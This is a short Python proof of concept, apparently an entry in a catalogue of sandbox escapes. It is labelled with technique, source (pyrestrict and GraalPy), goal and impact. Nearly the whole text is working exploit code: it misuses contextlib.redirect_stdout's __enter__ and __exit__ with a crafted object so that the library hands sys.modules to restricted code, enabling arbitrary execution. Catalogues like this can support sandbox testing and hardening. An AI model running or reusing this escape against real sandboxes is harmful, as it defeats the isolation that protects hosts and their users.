# technique: a library's method is called with the guest's own object for self: it reads and sets an attribute of sys that this object names
# source: reading pyrestrict and GraalPy's library
# goal: reach sys.modules
# impact: exec
import contextlib
class F:
    _stream = 'modules'
    _new_target = {}
f = F()
f._old_targets = []
contextlib.redirect_stdout.__enter__(f)
contextlib.redirect_stdout.__exit__(f, None, None, None)
escaped(f._old_targets)
